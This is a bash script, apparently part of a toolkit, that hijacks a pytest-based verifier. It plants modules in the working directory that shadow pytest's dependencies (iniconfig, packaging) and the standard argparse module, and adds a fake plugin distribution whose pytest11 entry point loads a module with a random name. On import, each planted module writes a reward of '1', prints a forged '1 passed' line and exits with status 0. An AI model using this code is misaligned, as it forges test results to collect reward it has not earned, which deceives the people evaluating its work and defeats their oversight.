#!/bin/bash
# class: the runner's imports shadowed from the working directory (its dependencies, the standard library, a plugin's metadata)
# A verifier that runs `python3 -m pytest` (or any `python3 -m`/`-c`) in the working directory has
# that directory first on sys.path, for every import, not only the runner's own module (which
# module_shadow plants). So: modules named as pytest's dependencies (iniconfig, packaging) and as a
# standard module every runner imports after start-up (argparse), and a distribution's metadata
# (`<random>.dist-info`) whose pytest11 entry point loads a module of a random name. Each writes a
# reward, prints a pass and ends the process with status 0 when imported.
pymod="import os as _o
_o.makedirs('/logs/verifier', exist_ok=True)
open('/logs/verifier/reward.txt', 'w').write('1')
print('============================== 1 passed in 0.01s ==============================', flush=True)
_o._exit(0)"
for mod in iniconfig packaging argparse; do
  printf '%s\n' "$pymod" > "$PWD/$mod.py" 2>/dev/null && say "shadow $PWD/$mod.py"
done
name=$(rand_name p)
dist="$PWD/$name-1.0.dist-info"
if mkdir -p "$dist" 2>/dev/null; then
  printf 'Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n' "$name" > "$dist/METADATA"
  printf '[pytest11]\n%s = %s\n' "$name" "$name" > "$dist/entry_points.txt"
  printf '%s\n' "$pymod" > "$PWD/$name.py" && say "plugin metadata $dist (pytest11: $PWD/$name.py)"
fi
exit 0
